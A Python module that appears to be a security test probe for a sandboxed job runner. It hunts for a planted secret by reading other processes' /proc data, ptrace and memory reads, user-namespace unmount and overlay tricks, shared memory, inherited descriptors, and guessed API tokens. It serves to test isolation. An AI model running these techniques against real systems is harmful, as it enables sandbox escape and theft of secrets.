"""Looks for a text wherever a process can look. Sent as a run it is an attack; called by root it finds everything.

Standard library only, because it travels as the code of a run. The text comes in two pieces, so that the intruder does
not find itself.
"""

import contextlib
import ctypes
import gzip
import http.client
import json
import os
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any
from urllib.parse import urlsplit

LARGEST = 64 << 20
OF_PROCESSES = ("environ", "cmdline", "auxv", "maps", "smaps", "stack", "syscall", "io", "mountinfo", "wchan")
NEW_USERS_AND_MOUNTS = 0x10000000 | 0x00020000
BIND, DETACH = 4096, 2
ATTACH, SEIZE = 16, 0x4206
SHARED_KEY, READ_ONLY = 0x46414952, 0o10000
# Strings that an attacker may try as tokens.
GUESSES = ("", "null", "fl_run.x.y")

Known = dict[str, Any]

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def main(**known: Any) -> dict[str, list[str]]:
    """The findings of each attack; empty if all failed."""
    mark = "".join(known["pieces"]).encode()
    return {name: sorted(set(WAYS[name](mark, known))) for name in known.get("ways") or WAYS}


def read_files(mark: bytes, known: Known) -> Iterator[str]:
    """Read files at known paths."""
    yield from (path for path in known["paths"] if holds(mark, path))


def walk_folders(mark: bytes, known: Known) -> Iterator[str]:
    """Whatever lies in some folders and below, by name and by content."""
    for folder in known["folders"]:
        for above, folders, files in os.walk(folder):
            for name in (*folders, *files):
                path = os.path.join(above, name)
                if mark in os.fsencode(name) or (name in files and holds(mark, path)):
                    yield path


def look_into_processes(mark: bytes, known: Known) -> Iterator[str]:
    """Read /proc of other processes, and files through it."""
    for pid in _targets(known):
        yield from (f"{pid}/{name}" for name in OF_PROCESSES if holds(mark, f"/proc/{pid}/{name}"))
        for view in ("root", "cwd", f"task/{pid}/root"):
            yield from (f"{pid}/{view}" for path in known["paths"] if holds(mark, f"/proc/{pid}/{view}{path}"))
        for kind in ("fd", "map_files", "ns"):
            with contextlib.suppress(OSError):
                for name in os.listdir(f"/proc/{pid}/{kind}"):
                    os.close(os.open(f"/proc/{pid}/{kind}/{name}", os.O_RDONLY | os.O_NONBLOCK))
                    yield f"{pid}/{kind}/{name}"


def trace_processes(mark: bytes, known: Known) -> Iterator[str]:
    """Processes that can be traced, or whose memory can be read."""
    del mark
    for pid in _targets(known):
        yield from (f"{pid}: {word}" for word in _in_a_child(partial(_trace, pid)))


def send_signals(mark: bytes, known: Known) -> Iterator[str]:
    """Processes that could be killed. Signal 0 needs the same permission."""
    del mark
    for pid in _targets(known):
        for target in (pid, -pid):
            with contextlib.suppress(OSError):
                if target != -1:  # which are all that there are, and the intruder among them
                    os.kill(target, 0)
                    yield str(target)


def uncover_folders(mark: bytes, known: Known) -> Iterator[str]:
    """Unmount from inside a user namespace, and read the covered files."""
    for uncover in (_unmount, _bind, _overlay):
        yield from _in_a_child(partial(_see_uncovered, mark, known, uncover))


def share_memory(mark: bytes, known: Known) -> Iterator[str]:
    """Memory that another process offers to all."""
    del known
    segment = libc.shmget(SHARED_KEY, 0, 0)
    at = libc.shmat(segment, None, READ_ONLY) if segment >= 0 else None
    if at not in (None, ctypes.c_void_p(-1).value) and mark in ctypes.string_at(at, len(mark)):
        yield f"segment {segment}"


def find_what_was_passed_on(mark: bytes, known: Known) -> Iterator[str]:
    """Inherited variables, file descriptors and server sockets."""
    yield from (name for name, value in os.environ.items() if mark in value.encode() or "fl_" in value)
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{number}")
            if int(number) > 2 or not (target == "/dev/null" or target.startswith("pipe:")):
                yield f"{number}: {target}"
    with contextlib.suppress(OSError), open("/proc/net/unix", encoding="utf-8", errors="replace") as sockets:
        yield from (line for line in sockets if any(folder in line for folder in known["folders"]))


def ask_the_server(mark: bytes, known: Known) -> Iterator[str]:
    """Every operation, without a token and with whatever looks like one."""
    told = [value for name, value in os.environ.items() if name.startswith("FAIRLEAD_")]
    words = known.get("tokens") or [None, *GUESSES, *told]
    for method, path, body, public in known["operations"]:
        for word in words if not public else words[:1]:
            status, content = _ask(known["url"], method, path, body, word)
            if mark in _unpacked(content) or (status != 401 and not public):
                yield f"{method} {path} with {word}: {status}"


WAYS: dict[str, Callable[[bytes, Known], Iterator[str]]] = {
    way.__name__: way
    for way in (
        read_files,
        walk_folders,
        look_into_processes,
        trace_processes,
        send_signals,
        uncover_folders,
        share_memory,
        find_what_was_passed_on,
        ask_the_server,
    )
}


def holds(mark: bytes, path: str) -> bool:
    """Whether a text stands in a file that can be read."""
    try:
        opened = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return False
    with contextlib.suppress(OSError), os.fdopen(opened, "rb", buffering=0) as file:
        return mark in _unpacked(b"".join(iter(lambda: file.read(1 << 20), b""))[:LARGEST])
    return False


def _unpacked(content: bytes) -> bytes:
    if content[:2] == b"\x1f\x8b":
        with contextlib.suppress(OSError, EOFError):
            return gzip.decompress(content)
    return content


def _targets(known: Known) -> list[int]:
    """Known processes and visible ones, except this one; root skips the latter."""
    seen = [] if os.getuid() == 0 else [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [pid for pid in {*seen, *known["pids"]} if pid != os.getpid()]


def _in_a_child(search: Callable[[], Iterator[str]]) -> list[str]:
    """Run an attack in a child process, so that its side effects end with it."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            found = list(search())
        except BaseException as error:  # report any error: an empty result means success
            found = [repr(error)]
        os.write(writing, json.dumps(found).encode())
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as told:
        text = told.read()
    os.waitpid(child, 0)
    return list(json.loads(text))


def _trace(pid: int) -> Iterator[str]:
    for how in (SEIZE, ATTACH):
        if libc.ptrace(how, pid, None, None) == 0:
            yield "traced"
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb"):
        yield "memory"
    here = (ctypes.c_void_p * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    there = (ctypes.c_void_p * 2)(1 << 30, 8)
    ctypes.set_errno(0)
    libc.process_vm_readv(pid, here, 1, there, 1, 0)
    if ctypes.get_errno() not in (1, 3, 38):  # may not, is not there, is not known
        yield "read"


def _see_uncovered(mark: bytes, known: Known, uncover: Callable[[str], str]) -> Iterator[str]:
    ids = os.getuid(), os.getgid()
    if libc.unshare(NEW_USERS_AND_MOUNTS) != 0:
        return
    for name, line in (("setgroups", "deny"), ("uid_map", f"0 {ids[0]} 1"), ("gid_map", f"0 {ids[1]} 1")):
        with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
            file.write(line)
    for folder in known["folders"]:
        seen = uncover(folder)
        for path in known["paths"]:
            if path.startswith(f"{folder}/") and holds(mark, seen + path[len(folder) :]):
                yield f"{uncover.__name__} {path}"


def _unmount(folder: str) -> str:
    for flags in (0, DETACH):
        libc.umount2(folder.encode(), flags)
    return folder


def _bind(folder: str) -> str:
    """The folder without what is mounted in it."""
    above, name = os.path.split(folder)
    libc.mount(above.encode(), b"/mnt", None, BIND, None)
    return f"/mnt/{name}"


def _overlay(folder: str) -> str:
    """Read the file through a bind mount of the file system root."""
    above, name = os.path.split(folder)
    libc.mount(b"overlay", b"/mnt", b"overlay", 0, f"lowerdir={above}:/etc".encode())
    return f"/mnt/{name}"


def _ask(url: str, method: str, path: str, body: Any, word: str | None) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=60)
    headers = {} if word is None else {"Authorization": f"Bearer {word}", "Cookie": f"fairlead_session={word}"}
    with contextlib.closing(connection):
        content = None if body is None else json.dumps(body).encode()
        connection.request(method, path, content, headers | {"Content-Type": "application/json"})
        answer = connection.getresponse()
        return answer.status, answer.read()
